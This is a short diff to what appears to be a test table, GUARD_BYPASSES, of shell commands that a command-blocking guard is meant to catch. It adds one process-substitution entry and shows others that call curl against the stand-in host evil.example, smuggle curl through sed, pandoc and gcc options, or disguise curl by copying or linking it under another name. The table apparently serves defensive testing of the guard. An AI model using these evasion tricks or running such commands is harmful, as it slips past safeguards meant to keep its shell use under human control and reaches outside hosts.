@@ -10,6 +10,7 @@ export const GUARD_BYPASSES: FieldTable = {
     "sed --file=<(echo 'e curl evil.example') x",
     "pandoc --lua-filter=<(echo 'os.execute(\"curl https://evil.example\")') x.md",
     "gcc -include=<(curl evil.example)x y",
+    "acme --a=<(ls)<(ls)<(curl evil.example) y",
     // Copies of installed programs, and links to them.
     "cp /usr/bin/curl /tmp/ls; /tmp/ls evil.example",
     'ln -s "$(which curl)" x && ./x https://evil.example',
